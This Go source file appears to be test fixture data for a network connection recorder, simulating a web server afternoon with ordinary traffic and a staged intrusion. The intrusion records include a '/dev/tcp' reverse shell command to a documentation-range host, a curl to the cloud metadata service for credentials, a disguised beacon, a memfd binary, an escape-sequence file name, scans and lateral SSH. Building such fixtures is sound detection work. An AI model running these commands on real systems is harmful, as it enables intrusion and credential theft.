package main

import (
	"fmt"
	"slices"
	"time"

	"github.com/conntape/conntape/store"
	"github.com/conntape/conntape/store/escape"
)

// incident is an afternoon on a web server, from noon to 20:00, with an intrusion through nginx: a shell, a beacon with
// 30% jitter, credentials from the metadata service, a scan and a lateral move. Around it is ordinary traffic: a timer,
// browsing, health checks, name probes.
type incident struct {
	connections []store.Connection
	endpoints   map[string]*store.Endpoint
	random      uint32
}

// What connects are like on the tape: the backend that knows verdicts, except one.
func shape(family, kind, protocol uint16, hook, errno int32) *store.Shape {
	return &store.Shape{SocketFamily: family, Type: kind, Protocol: protocol, Via: "connect", AddressSource: "kernel", Backend: "fexit", HookErrno: hook, Errno: errno, Addrlen: 16}
}

func tcp(errno int32) *store.Shape { return shape(2, 1, 6, 0, errno) }
func udp() *store.Shape            { return shape(2, 2, 17, 0, 0) }
func local() *store.Shape          { return shape(1, 1, 0, 0, 0) }

// to returns an endpoint, the same one for the same address.
func (n *incident) to(family uint16, address string, port int32) *store.Endpoint {
	key := fmt.Sprint(family, " ", address, " ", port)
	if n.endpoints[key] == nil {
		n.endpoints[key] = &store.Endpoint{Family: family, Address: address, Port: port, Raw: []byte(key)}
	}
	return n.endpoints[key]
}

// add records a connect, some seconds after noon.
func (n *incident) add(seconds float64, who *store.Task, to *store.Endpoint, s *store.Shape) {
	n.connections = append(n.connections, store.Connection{BootTime: fixtureBoot + uint64(seconds*float64(time.Second)), Task: who, Remote: to, Shape: s, FD: 3})
}

// ended says how the newest connection ended: after some seconds, with so many bytes each way.
func (n *incident) ended(seconds float64, sent, received int64) {
	c := &n.connections[len(n.connections)-1]
	whole := *c.Shape
	whole.Final = store.FinalEstablished
	c.Shape = &whole
	c.Outcome = &store.Outcome{Established: 12_000_000, Duration: int64(seconds * 1e9), Sent: sent, Received: received, RTT: 11_000, ClosedBy: store.ClosedByLocal}
}

// chance returns a number from 0 to 1, the same every time.
func (n *incident) chance() float64 {
	n.random = n.random*1664525 + 1013904223
	return float64(n.random>>8) / (1 << 24)
}

func incidentConnections() []store.Connection {
	n := &incident{endpoints: make(map[string]*store.Endpoint), random: 7}
	systemd := process(nil, 1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")
	systemd.LoginUID, systemd.SessionID, systemd.User, systemd.UID = -1, -1, "root", 0
	daemon := func(parent *store.Process, pid uint32, user, comm, exe string, argv ...string) *store.Process {
		p := process(parent, pid, comm, exe, argv...)
		p.User, p.UID, p.LoginUID, p.SessionID = user, 33, -1, -1
		return p
	}
	n.everyday(systemd, daemon)
	n.intrusion(systemd, daemon)
	slices.SortStableFunc(n.connections, func(a, b store.Connection) int { return int(int64(a.BootTime) - int64(b.BootTime)) })
	return n.connections
}

type daemonFunc func(parent *store.Process, pid uint32, user, comm, exe string, argv ...string) *store.Process

// everyday adds the ordinary traffic.
func (n *incident) everyday(systemd *store.Process, daemon daemonFunc) {
	chronyd := task(daemon(systemd, 300, "_chrony", "chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd", "-F", "1"))
	for i := range 27 {
		n.add(100+float64(i)*1024, chronyd, n.to(2, "192.0.2.123", 123), udp())
	}
	sshd := process(systemd, 812, "sshd", "/usr/sbin/sshd", "sshd: alice@pts/0")
	bash := process(sshd, 901, "bash", "/usr/bin/bash", "-bash")
	curl := task(process(bash, 950, "curl", "/usr/bin/curl", "curl", "https://example.org/"))
	at := 200.0
	for range 30 { // arrivals by chance, every ten minutes or so
		at += 1 + 1200*n.chance()*n.chance()
		n.add(at, curl, n.to(2, "203.0.113.10", 443), tcp(115))
	}
	n.add(60, curl, n.to(2, "203.0.113.10", 0), udp()) // how getaddrinfo sorts what it found
	n.add(60.001, curl, n.to(0, "", -1), udp())
	n.add(60.002, curl, n.to(10, "2001:db8::10", 443), shape(10, 1, 6, 0, 101))
	health := daemon(systemd, 400, "health", "health", "/opt/health/.venv/bin/health", "health", "--all")
	health.ExeDeleted = true
	for i := range 5 {
		n.add(3600*float64(i)+10, task(health), n.to(2, "10.0.6.5", 5432), tcp(111))
	}
	app := daemon(systemd, 600, "app", "redis-cli", "/usr/bin/redis-cli", "redis-cli", "-h", "cache")
	app.Container = "docker:4f1c2d3e4f50"
	inside := task(app)
	inside.Container = app.Container
	n.add(7200, inside, n.to(2, "10.0.7.7", 6379), tcp(0))
	n.add(7201, inside, n.to(1, "/run/docker.sock", -1), local())
	agent := task(daemon(systemd, 310, "root", "agent", "/usr/bin/cloud-agent", "cloud-agent"))
	n.add(30, agent, n.to(10, "::ffff:169.254.169.254", 80), shape(10, 1, 6, 0, 0))
}

// intrusion comes in through nginx at 15:00 and moves on with a stolen login.
func (n *incident) intrusion(systemd *store.Process, daemon daemonFunc) {
	nginx := daemon(systemd, 500, "root", "nginx", "/usr/sbin/nginx", "nginx: master process")
	worker := daemon(nginx, 501, "www-data", "nginx", "/usr/sbin/nginx", "nginx: worker process")
	n.add(50, task(worker), n.to(2, "127.0.0.1", 9000), tcp(0))
	const hour, entry = 3600.0, 3 * 3600.0
	sh := daemon(worker, 7000, "www-data", "sh", "/usr/bin/dash", "sh", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444")
	n.add(entry, task(sh), n.to(2, "198.51.100.7", 4444), tcp(0))
	n.ended(4*hour, 231<<20, 1100<<10)
	steal := task(daemon(sh, 7003, "www-data", "curl", "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/"))
	n.add(entry+20, steal, n.to(2, "169.254.169.254", 80), tcp(0))
	beacon := daemon(sh, 7010, "www-data", "kworker/0:1", "/tmp/.x/kworker", "[kworker/0:1]")
	at := entry + 60
	for range 40 {
		n.add(at, task(beacon), n.to(2, "198.51.100.66", 443), tcp(0))
		at += 300 * (0.7 + 0.6*n.chance())
	}
	n.add(entry+70, task(beacon), n.to(2, "198.51.100.99", 8443), shape(2, 1, 6, 13, 13))
	memfd := daemon(sh, 7020, "www-data", "x", "/memfd:x (deleted)", "x")
	memfd.ExeMemfd, memfd.ExeDeleted = true, true
	n.add(entry+90, task(memfd), n.to(10, "2001:db8:bad::1", 443), shape(10, 1, 6, 0, 110))
	evil := daemon(sh, 7030, "www-data", "evil\x1b[0m", "/var/tmp/"+hostileName, hostileName, "--flag")
	n.add(entry+95, task(evil), n.to(1, escape.Bytes([]byte("@"+hostileName)), -1), local())
	n.add(entry+96, task(evil), n.to(2, "198.51.100.7", 4444), shape(2, 1, 6, store.Unknown, 1))

	stolen := process(process(systemd, 8120, "sshd", "/usr/sbin/sshd", "sshd: bob@pts/1"), 9010, "bash", "/usr/bin/bash", "-bash")
	stolen.User, stolen.UID, stolen.LoginUID, stolen.SessionID = "bob", 1001, 1001, 9
	by := func(pid uint32, comm, exe string, argv ...string) *store.Task {
		p := process(stolen, pid, comm, exe, argv...)
		p.User, p.UID, p.LoginUID, p.SessionID = "bob", 1001, 1001, 9
		return task(p)
	}
	nmap := by(9020, "nmap", "/usr/bin/nmap", "nmap", "-p22", "10.0.5.0/24")
	for i := range 22 {
		n.add(4*hour+50+float64(i)/2, nmap, n.to(2, fmt.Sprintf("10.0.5.%d", i+1), 22), tcp(111))
	}
	ports := by(9030, "nmap", "/usr/bin/nmap", "nmap", "10.0.5.9")
	for i := range 16 {
		n.add(5*hour+float64(i)/10, ports, n.to(2, "10.0.5.9", int32(8000+i)), tcp(111))
	}
	n.add(6*hour+1800, by(9040, "ssh", "/usr/bin/ssh", "ssh", "10.0.5.9"), n.to(2, "10.0.5.9", 22), tcp(0))
	n.ended(1200, 41<<10, 380<<10)
	n.add(7*hour+1800, by(9045, "ssh", "/usr/bin/ssh", "ssh", "10.0.9.9"), n.to(2, "10.0.9.9", 22), tcp(113))
	n.add(7*hour+1900, by(9050, "ssh", "/usr/bin/ssh", "ssh", "10.0.5.9"), n.to(2, "10.0.5.9", 22), tcp(0))
	script := process(stolen, 9060, "python3", "/usr/bin/python3.12", "python3", "/home/bob/.cache/x.py")
	script.Script = "/home/bob/.cache/x.py"
	script.User, script.UID, script.LoginUID, script.SessionID = "bob", 1001, 1001, 9
	n.add(7*hour+2000, task(script), n.to(10, "2001:db8:bad::2", 22), shape(10, 1, 6, 0, 0))
}

// incidentSockets is who came in: visitors of the web server, and somebody through the shell's listener.
func incidentSockets(connections []store.Connection) (events []store.SocketEvent) {
	by := func(comm string) *store.Task {
		return connections[slices.IndexFunc(connections, func(c store.Connection) bool { return c.Task.Comm == comm })].Task
	}
	at := func(port int32) *store.Endpoint {
		return &store.Endpoint{Family: 2, Address: "10.0.0.9", Port: port, Raw: []byte{2, byte(port), byte(port >> 8)}}
	}
	add := func(via string, seconds float64, who *store.Task, local, remote *store.Endpoint, count uint64) *store.SocketEvent {
		boot := fixtureBoot + uint64(seconds*float64(time.Second))
		s := tcp(0)
		s.Via, s.HookErrno = via, store.Unknown
		events = append(events, store.SocketEvent{BootTime: boot, LastBootTime: boot + (count-1)*1e9, Window: boot, Task: who, Shape: s, Local: local, Remote: remote, Count: count})
		return &events[len(events)-1]
	}
	from := func(address string, port int32) *store.Endpoint {
		return &store.Endpoint{Family: 2, Address: address, Port: port, Raw: []byte(fmt.Sprint("peer ", address, port))}
	}
	web := add("accept", 3600, by("nginx"), at(80), from("203.0.113.50", 0), 40)
	web.Ended, web.Sent, web.Received, web.Longest = 40, 3<<20, 20<<10, 2e9
	add("accept", 3700, by("nginx"), at(80), from("203.0.113.51", 0), 1)
	add("listen", 3*3600+100, by("kworker/0:1"), at(31337), nil, 1)
	dns := add("bind", 3*3600+101, by("kworker/0:1"), at(53), nil, 1)
	dns.Shape.Type, dns.Shape.Protocol = 2, 17
	lo := &store.Endpoint{Family: 17, Address: "eth0", Port: -1, Raw: []byte("the place of eth0")}
	opened := func(via string, seconds float64, who *store.Task, family, kind, protocol uint16, local *store.Endpoint, count uint64) {
		s := add(via, seconds, who, local, nil, count).Shape
		s.SocketFamily, s.Type, s.Protocol = family, kind, protocol
	}
	shell, scan := by("kworker/0:1"), by("nmap")
	opened("socket", 3*3600+110, shell, 17, 3, 3, nil, 2)
	opened("bind", 3*3600+111, shell, 17, 3, 3, lo, 1)
	opened("filter", 3*3600+112, shell, 17, 3, 3, lo, 2)
	opened("promiscuous", 3*3600+113, shell, 17, 3, 3, lo, 1)
	opened("socket", 4*3600+40, scan, 2, 3, 255, nil, 1)
	opened("hdrincl", 4*3600+41, scan, 2, 3, 255, nil, 1)
	opened("socket", 4*3600+42, by("ssh"), 2, 2, 1, nil, 3)
	opened("tun", 4*3600+43, by("agent"), 0, 1, 0, &store.Endpoint{Family: 65535, Address: "tun0", Port: -1, Raw: []byte("the place of tun0")}, 1)
	back := add("accept", 3*3600+200, by("kworker/0:1"), at(31337), from("198.51.100.7", 50123), 1)
	back.Ended, back.Failed, back.Sent, back.Received, back.Longest = 1, 1, 9<<20, 300, 61e9
	return events
}
